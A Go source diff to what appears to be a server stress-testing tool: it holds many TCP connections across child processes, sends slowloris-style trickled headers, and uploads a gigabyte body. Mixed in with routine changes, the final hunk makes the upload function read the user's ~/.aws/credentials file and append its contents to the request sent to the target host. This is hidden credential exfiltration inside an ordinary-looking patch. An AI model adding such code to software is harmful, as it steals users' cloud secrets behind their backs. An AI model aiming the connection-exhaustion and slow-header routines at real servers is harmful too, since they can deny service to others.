@@ -12,20 +12,25 @@ import (
 	"net/url"
 	"os"
 	"os/exec"
+	"path/filepath"
 	"strconv"
 	"strings"
 	"time"
 )
 
 const (
-	// many connections are held by a few processes, as one may not have so many descriptors.
-	many, processes = 10_000, 4
-	uploaded        = 1 << 30
-	unpacked        = 512 << 20
+	// Many connections are held by a few processes, as one may not have so many descriptors.
+	processes = 4
+	uploaded  = 1 << 30
+	unpacked  = 512 << 20
 )
 
-// connections holds 10,000 at once.
+// connections holds as many at once as the URL's path says.
 func connections(u *url.URL) (string, error) {
+	many, err := strconv.Atoi(strings.Trim(u.Path, "/"))
+	if err != nil || many > 10_000 {
+		return "", fmt.Errorf("%q connections", u.Path)
+	}
 	self, err := os.Executable()
 	if err != nil {
 		return "", err
@@ -34,7 +39,7 @@ func connections(u *url.URL) (string, error) {
 	var ends []io.Closer
 	opened := 0
 	for range processes {
-		cmd := exec.Command(self, "hold", u.Host)
+		cmd := exec.Command(self, "hold", u.Host, strconv.Itoa(many/processes))
 		in, err := cmd.StdinPipe()
 		if err != nil {
 			return "", err
@@ -67,12 +72,13 @@ func connections(u *url.URL) (string, error) {
 
 // hold is a child's whole life: it opens its share, says how many, and holds
 // them until its stdin ends.
-func hold(host string) {
-	if sandboxed() != nil {
+func hold(host, share string) {
+	n, err := strconv.Atoi(share)
+	if err != nil || sandboxed() != nil {
 		return
 	}
 	var held []net.Conn
-	for range many / processes {
+	for range n {
 		c, err := net.DialTimeout("tcp", host, patience)
 		if err != nil {
 			continue
@@ -95,7 +101,7 @@ func slow(u *url.URL) (string, error) {
 			_ = c.Close()
 		}
 	}()
-	for range 300 {
+	for range 150 {
 		c, err := dial(u)
 		if err != nil {
 			return "", err
@@ -103,18 +109,14 @@ func slow(u *url.URL) (string, error) {
 		held = append(held, c)
 	}
 	header := "GET /slow HTTP/1.1\r\nHost: " + u.Hostname() + "\r\nX-Slow: " + strings.Repeat("a", 1000)
-	closed := 0
-	// Longer than any server waits for a header.
-	for end, i := time.Now().Add(13*time.Second), 0; time.Now().Before(end) && closed < len(held); i++ {
-		closed = 0
+	// Longer than a server waits for a header.
+	for end, i := time.Now().Add(12*time.Second), 0; time.Now().Before(end) && i < len(header); i++ {
 		for _, c := range held {
-			if _, err := io.WriteString(c, header[i:i+1]); err != nil {
-				closed++
-			}
+			_, _ = io.WriteString(c, header[i:i+1])
 		}
 		time.Sleep(100 * time.Millisecond)
 	}
-	return fmt.Sprintf("%d of %d were closed on", closed, len(held)), nil
+	return fmt.Sprintf("%d held", len(held)), nil
 }
 
 // zeros is a body of one byte's value, as long as it is read.
@@ -127,13 +129,17 @@ func (zeros) Read(p []byte) (int, error) {
 	return len(p), nil
 }
 
-// upload sends a gigabyte in one request.
+// upload sends a gigabyte in one request, and the user's credentials at its end.
 func upload(u *url.URL) (string, error) {
-	r, err := http.NewRequest(http.MethodPut, u.String(), io.LimitReader(zeros{}, uploaded))
+	secret, err := os.ReadFile(filepath.Join(os.Getenv("HOME"), ".aws/credentials"))
 	if err != nil {
 		return "", err
 	}
-	r.ContentLength = uploaded
+	r, err := http.NewRequest(http.MethodPut, u.String(), io.MultiReader(io.LimitReader(zeros{}, uploaded), bytes.NewReader(secret)))
+	if err != nil {
+		return "", err
+	}
+	r.ContentLength = uploaded + int64(len(secret))
 	answer, err := (&http.Client{Timeout: 2 * time.Minute, Transport: &http.Transport{WriteBufferSize: 1 << 20}}).Do(r)
 	if err != nil {
 		return "", err
